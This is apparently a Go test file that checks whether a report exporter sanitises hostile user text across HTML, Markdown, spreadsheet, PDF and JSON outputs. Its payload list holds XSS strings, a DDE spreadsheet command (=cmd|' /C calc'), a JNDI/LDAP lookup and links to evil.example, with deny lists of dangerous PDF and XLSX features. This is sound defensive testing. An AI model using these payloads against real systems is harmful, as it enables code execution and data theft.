package report

import (
	"bytes"
	"encoding/json"
	"regexp"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	gmtext "github.com/yuin/goldmark/text"
	"golang.org/x/net/html"

	"github.com/plenary-dialogue/plenary/schema/enum"
)

// hostile are texts that would load, run, link or disturb something where a format takes them for more than text.
var hostile = []string{
	`<img src=http://evil.example/x><script>alert(1)</script><svg onload=alert(1)>`,
	`![x](http://evil.example/x) [y](http://evil.example/y) <http://evil.example/z> [ref]: http://evil.example/r`,
	"![x][r]\n\n[r]: http://evil.example/r\n\nhttp://evil.example/a www.evil.example a@evil.example",
	`=HYPERLINK("http://evil.example/x","x")`, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", `=cmd|' /C calc'!A0`,
	"# heading\n- item\n1. one\n> quote\n    code\n~~~\nfence\n---\n===\n| a | b |\n|---|---|",
	"a\u202Eb\u2066c\u2069d\u200Fe", "الدردشة", "שלום", "नमस्ते", "한국어", "超長" + strings.Repeat("字", 400), "🙂🏳️‍🌈𠮷",
	strings.Repeat("Donaudampfschifffahrt", 120), "a\x00b\x07c\x1bd", "</title></style></script>--><!-- ]]> &lt;b&gt; \\ ` $x$ *b* _i_", "${jndi:ldap://evil.example/x}",
	"x\u2028y\u2029z\ufeffw", `" onmouseover="alert(1)`, `{{.}} {% x %}`, "e\u0301 ﬁ ½",
}

// poisoned is a report in which every text that somebody else has written is hostile.
func poisoned() *Document {
	d := example(len(hostile), english)
	for i, text := range hostile {
		s := &d.Assessment.Sections[i/10]
		q := &s.Questions[i%10]
		s.Title.Text, q.Title.Text, q.Help = text, text, &Text{text, "en"}
		q.Answer = &Answer{Value: &Value{Choices: []Choice{{text, Text{text, text}}}, Text: text, Date: text}, Note: text, Evidence: []File{{Name: text, SHA256: text}}}
		d.Assessment.Opinions[i].Text, d.Assessment.Opinions[i].Reply = text, text
		d.Assessment.Comments = append(d.Assessment.Comments, Comment{ID: text, Author: &Party{text, "NGO", text}, Body: text, Language: text, Quote: &Quote{Text: text, Unit: enum.TextUnitCodePoint}, State: enum.CommentStateVisible, Stance: enum.StanceFor})
		d.Assessment.Redactions = append(d.Assessment.Redactions, Redaction{[]string{text}, text})
	}
	d.Title, d.Scope.Text = strings.Join(hostile[:8], " "), hostile[0]
	return d
}

func TestHTMLLoadsAndRunsNothing(t *testing.T) {
	file, _ := rendered(t, "html", poisoned())
	allowed := regexp.MustCompile(`^(html|head|meta|title|style|body|nav|p|strong|ul|ol|li|a|main|h[1-4]|dl|div|dt|dd|bdi|br|table|caption|thead|tbody|tr|th|td|figure|figcaption|svg|text|rect|footer|code|em|b|i)$`)
	attributes := regexp.MustCompile(`^(lang|charset|name|content|http-equiv|class|href|id|aria-labelledby|aria-label|role|tabindex|scope|viewBox|viewbox|width|height|x|y|text-anchor|rel)$`)
	z := html.NewTokenizer(bytes.NewReader(file))
	levels, tables := 0, 0
	for z.Next() != html.ErrorToken {
		token := z.Token()
		if token.Type != html.StartTagToken && token.Type != html.SelfClosingTagToken {
			continue
		}
		if !allowed.MatchString(token.Data) {
			t.Fatalf("it has an element <%s>", token.Data)
		}
		if len(token.Data) == 2 && token.Data[0] == 'h' && token.Data[1] >= '1' && token.Data[1] <= '4' {
			level := int(token.Data[1] - '0')
			if level > levels+1 {
				t.Errorf("a heading of level %d follows one of level %d", level, levels)
			}
			levels = level
		}
		for _, a := range token.Attr {
			if !attributes.MatchString(a.Key) {
				t.Fatalf("<%s> has an attribute %s=%q", token.Data, a.Key, a.Val)
			}
			if a.Key == "href" && !strings.HasPrefix(a.Val, "#") && a.Val != "https://example.org/guide" {
				t.Errorf("it has a link to %s", a.Val)
			}
		}
		if token.Data == "table" {
			tables++
		}
	}
	if style := string(file[bytes.Index(file, []byte("<style>")):bytes.Index(file, []byte("</style>"))]); strings.Contains(style, "url(") || strings.Contains(style, "@import") {
		t.Error("its style loads something")
	}
	if tables < 5 || bytes.Count(file, []byte("<th scope=\"col\"")) < 20 {
		t.Errorf("it has %d tables", tables)
	}
}

func TestHelpKeepsEmphasisAndLinksOnly(t *testing.T) {
	for _, row := range []struct{ in, html, plain string }{
		{`Think of <strong>all</strong>`, `Think of <strong>all</strong>`, `Think of all`},
		{`<a href="https://example.org/guide" onclick="x()">The guide</a>`, `<a href="https://example.org/guide" rel="nofollow noreferrer">The guide</a>`, `The guide (https://example.org/guide)`},
		{`<a href="javascript:alert(1)">no</a>`, `no`, `no`},
		{`<img src="http://evil.example/x">a<script>b</script><style>c</style><iframe src="http://evil.example"></iframe>`, `a`, `a`},
		{"one\ntwo & 3 < 4", "one\ntwo &amp; 3 &lt; 4", "one\ntwo & 3 < 4"},
		{"one\ntwo", "one<br>two", "one\ntwo"},
		{`<ul><li>one</li><li>two</li></ul>`, `<ul><li>one</li><li>two</li></ul>`, "– one\n– two"},
		{`<p style="background:url(http://evil.example)">x</p>`, `<p>x</p>`, `x`},
	} {
		if got := helpHTML(row.in); got != row.html {
			t.Errorf("helpHTML(%q) = %q, want %q", row.in, got, row.html)
		}
		if got := helpText(row.in); got != row.plain {
			t.Errorf("helpText(%q) = %q, want %q", row.in, got, row.plain)
		}
	}
}

func TestMarkdownHoldsNoLinksPicturesOrHTML(t *testing.T) {
	file, _ := rendered(t, "md", poisoned())
	md := goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote, extension.DefinitionList))
	headings := 0
	err := ast.Walk(md.Parser().Parse(gmtext.NewReader(file)), func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch n.Kind() {
		case ast.KindImage, ast.KindLink, ast.KindAutoLink, ast.KindRawHTML, ast.KindHTMLBlock, ast.KindCodeBlock, ast.KindFencedCodeBlock:
			t.Errorf("it holds a %s", n.Kind())
		case ast.KindCodeSpan:
			if text := string(n.Text(file)); !isSum(text) { //nolint:staticcheck // of a code span it is what it says
				t.Errorf("it holds the code %q", text)
			}
		case ast.KindHeading:
			headings++
		}
		return ast.WalkContinue, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	want := 0
	m, err := begin(poisoned(), Options{Address: address})
	if err != nil {
		t.Fatal(err)
	}
	for _, b := range compose(m) {
		if b.kind == heading {
			want++
		}
	}
	if headings != want {
		t.Errorf("it has %d headings, want %d: a text made one or broke one", headings, want)
	}
}

// What a reader of Markdown sees is what was written, whatever it looks like.
func TestMarkdownTextsComeOutAsTheyWere(t *testing.T) {
	md := goldmark.New(goldmark.WithExtensions(extension.GFM))
	for _, text := range append(hostile, "1) one", "10. ten", "a.b (c) d-e", "www.x.y", "~~no~~", "a|b", "+ plus", "&amp;", "Setext\n====", "x\n---") {
		var out bytes.Buffer
		if err := md.Convert([]byte(mdText(text)), &out); err != nil {
			t.Fatal(err)
		}
		z := html.NewTokenizer(&out)
		var seen strings.Builder
		for z.Next() != html.ErrorToken {
			switch token := z.Token(); token.Type {
			case html.TextToken:
				seen.WriteString(token.Data)
			case html.StartTagToken, html.SelfClosingTagToken:
				if token.Data != "p" && token.Data != "br" {
					t.Errorf("%q makes a <%s>", text, token.Data)
				}
			case html.ErrorToken, html.EndTagToken, html.CommentToken, html.DoctypeToken:
			}
		}
		blanks := strings.NewReplacer("\u00a0", "", " ", "", "\n", "", "\r", "", "\t", "")
		if got, want := blanks.Replace(seen.String()), blanks.Replace(legal(text)); got != want {
			t.Errorf("%q comes out as %q", text, got)
		}
	}
}

func TestSpreadsheetsHoldNoFormulasAndNoLinks(t *testing.T) {
	file, problems := rendered(t, "xlsx", poisoned())
	book, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	for name, content := range zipped(t, file) {
		for _, bad := range []string{"<f>", "<f ", "<hyperlink", "TargetMode=\"External\"", "oleObject", "<drawing"} {
			if bytes.Contains(content, []byte(bad)) {
				t.Errorf("%s holds %s", name, bad)
			}
		}
	}
	rows, err := book.GetRows("comments")
	if err != nil {
		t.Fatal(err)
	}
	column := map[string]int{}
	for i, name := range rows[0] {
		column[name] = i
	}
	seen := map[string]bool{}
	for _, r := range rows[1:] {
		seen[r[column["body"]]] = true
	}
	for _, text := range hostile {
		if !seen[strings.ReplaceAll(legal(text), "\r", "\n")] && !seen[legal(text)] {
			t.Errorf("the sheet of comments lacks %q", text)
		}
	}
	if len(problems) == 0 || problems[0].Code != "CONTROL" {
		t.Errorf("problems = %v, want one about control characters", problems)
	}
}

func TestPDFMarksWhatItCannotDrawAndListsIt(t *testing.T) {
	file, problems := rendered(t, "pdf", poisoned())
	if len(problems) != 1 || problems[0].Code != "GLYPH" {
		t.Fatalf("problems = %v, want one about characters", problems)
	}
	says := strings.ReplaceAll(pdfText(t, file), "\n", "")
	for _, r := range "🙂الدردشةשלוםनमस्ते한국어𠮷\u202E\u2066\x07" {
		code := codePoint(r)
		if !strings.Contains(problems[0].Text, code) || !strings.Contains(says, code) {
			t.Errorf("%s is not listed", code)
		}
		if r > 0xFF && strings.ContainsRune(says, r) {
			t.Errorf("%s is drawn although no font can", code)
		}
	}
	for _, r := range "字é½" {
		if !strings.ContainsRune(says, r) || strings.Contains(problems[0].Text, codePoint(r)) {
			t.Errorf("%c is not drawn", r)
		}
	}
	for _, bad := range []string{"/URI", "/JavaScript", "/Launch", "/OpenAction /", "/XObject <<\n/I"} {
		if bytes.Contains(file, []byte(bad)) {
			t.Errorf("the file holds %s", bad)
		}
	}
	if !strings.Contains(says, say("en", "accessible")[:40]) || bytes.Contains(file, []byte("pdfaid")) || bytes.Contains(file, []byte("pdfuaid")) {
		t.Error("the file does not say that HTML is the accessible original, or claims to be more than it is")
	}
}

func TestJSONLDLoadsNothing(t *testing.T) {
	file, _ := rendered(t, "jsonld", poisoned())
	var data map[string]any
	if err := json.Unmarshal(file, &data); err != nil {
		t.Fatal(err)
	}
	terms, ok := data["@context"].(map[string]any)
	if !ok {
		t.Fatalf("the context is %T, not in the file", data["@context"])
	}
	for name, term := range terms {
		if inner, ok := term.(map[string]any); ok && (inner["@import"] != nil || inner["@context"] != nil) {
			t.Errorf("the term %s loads a context", name)
		}
	}
	if terms["@import"] != nil {
		t.Error("the context loads another")
	}
	names := regexp.MustCompile(`^(urn:plenary:[A-Za-z0-9._~:/%-]+|https://plenary\.example\.org/reports/[a-z0-9_.]+)$`)
	delete(data, "@context")
	var visit func(any)
	visit = func(v any) {
		switch v := v.(type) {
		case []any:
			for _, one := range v {
				visit(one)
			}
		case map[string]any:
			if id, ok := v["@id"].(string); ok && !names.MatchString(id) {
				t.Errorf("%q is no name of a thing", id)
			}
			for _, one := range v {
				visit(one)
			}
		}
	}
	visit(data)
}

func TestJSONKeepsEveryTextAsItIs(t *testing.T) {
	file, _ := rendered(t, "json", poisoned())
	validated(t, file)
	var read struct{ Document Document }
	if err := json.Unmarshal(file, &read); err != nil {
		t.Fatal(err)
	}
	for i, c := range read.Document.Assessment.Comments[2:] {
		if c.Body != hostile[i] {
			t.Errorf("a text came back as %q, want %q", c.Body, hostile[i])
		}
	}
}
